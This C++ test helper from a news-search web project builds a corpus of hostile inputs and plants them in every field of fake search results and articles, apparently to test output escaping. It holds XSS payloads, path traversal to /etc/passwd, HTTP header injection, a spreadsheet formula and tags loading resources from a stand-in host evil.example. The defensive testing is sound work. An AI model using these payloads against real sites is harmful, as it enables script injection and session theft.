#include "tests/web/hostile_texts.hpp"

#include "tests/web/fake_archive.hpp"

namespace lede::test {
namespace {

using namespace std::string_literals;

const std::vector<std::string> kWritten = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</title><script>alert(1)</script>",
    "</mark></a><svg/onload=alert(1)>",
    "{{{q}}}{{#hits}}{{/hits}}{{> top}}",
    "javascript:alert(1)",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    "\\x3cscript\\x3e",
    "\0\x01\x1b[31m"s,
    "\xff\xfe\xc0\xaf",
    "\u202Eevil\u202C",
    "\u2028\u2029",
    "../../../etc/passwd",
    "C:\\nul.html\0.txt"s,
    "<plaintext>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<object data=//evil.example/x></object>",
    "data:text/html,<script>globalThis.ran=true</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/\"onmouseover=\"globalThis.ran=true",
    "jav\tascript:globalThis.ran=true",
    "<a href=javascript:globalThis.ran=true>x</a>",
    "${globalThis.ran=true}",
    "{{constructor.constructor('globalThis.ran=true')()}}",
    "%3Cscript%3EglobalThis.ran=true%3C/script%3E",
    "\u003cscript\u003eglobalThis.ran=true\u003c/script\u003e",
    "+ADw-script+AD4-globalThis.ran=true+ADw-/script+AD4-",
    "<![CDATA[<script>globalThis.ran=true</script>]]>",
    "&#60;script&#62;globalThis.ran=true&#60;/script&#62;",
    "<scr<script>ipt>globalThis.ran=true</scr</script>ipt>",
    "=HYPERLINK(\"//evil.example\")",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>globalThis.ran=true</script>",
};

constexpr const char* kOpenings[] = {"", "\">", "'>", "</textarea></title></style></script>"};
constexpr const char* kElements[] = {
    "img src=x",       "svg",         "body",         "details open",
    "input autofocus", "video src=x", "iframe src=/", "select multiple autofocus",
    "marquee",         "math"};
constexpr const char* kEvents[] = {"onerror", "onload", "onfocus", "ontoggle"};

// Each way out of our markup with each element that can run something.
std::vector<std::string> all_texts() {
  std::vector<std::string> texts = kWritten;
  for (const char* opening : kOpenings)
    for (const char* element : kElements)
      for (const char* event : kEvents)
        texts.push_back(std::string(opening) + "<" + element + " " + event + "=globalThis.ran=true>");
  return texts;
}

}  // namespace

const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> texts = all_texts();
  return texts;
}

SearchResponse hostile_response(const std::string& evil, const SearchRequest& request, bool keep_ids) {
  SearchResponse response = sample_response(request);
  response.words = response.understood = response.text = evil;
  response.did_you_mean = evil;
  response.warnings = {{1, evil}};
  for (Hit& hit : response.hits) {
    hit.title = {{evil, true}, {evil, false}};
    hit.outlet = evil;
    hit.authors = {evil};
    hit.section = evil;
    hit.lang = evil;
    hit.url = evil;
    if (!keep_ids) hit.id = evil;
    hit.snippets = {{FieldId::Text, {{evil, false}, {evil, true}}}};
    hit.actors = {evil};
    hit.published = PublicationDate{EdtfDate{.edtf = evil, .earliest = {}, .latest = {}}, Origin::Stated};
  }
  for (FacetCounts& facet : response.facets) {
    for (FacetValue& value : facet.values) value.value = evil;
    for (DateBucket& bucket : facet.buckets) bucket.edtf = evil;
    facet.unit = evil;
  }
  return response;
}

AnnotatedArticle hostile_article(const std::string& evil) {
  AnnotatedArticle out = sample_article();
  Article& article = out.article;
  article.id = article.path = article.title = article.text = article.lang = evil;
  article.source_id = article.url = article.agency = article.section = evil;
  article.outlet = Outlet{evil, evil};
  article.authors = article.keywords = article.cites = {evil, evil};
  out.actors = {{.name = evil,
                 .type = ActorType::Person,
                 .mentions = {{}, {}},
                 .as = {evil, "x" + evil},
                 .why = {evil}}};
  out.quotes = {{.text = evil, .speaker = evil, .said_as = evil + "x"}};
  return out;
}

}  // namespace lede::test
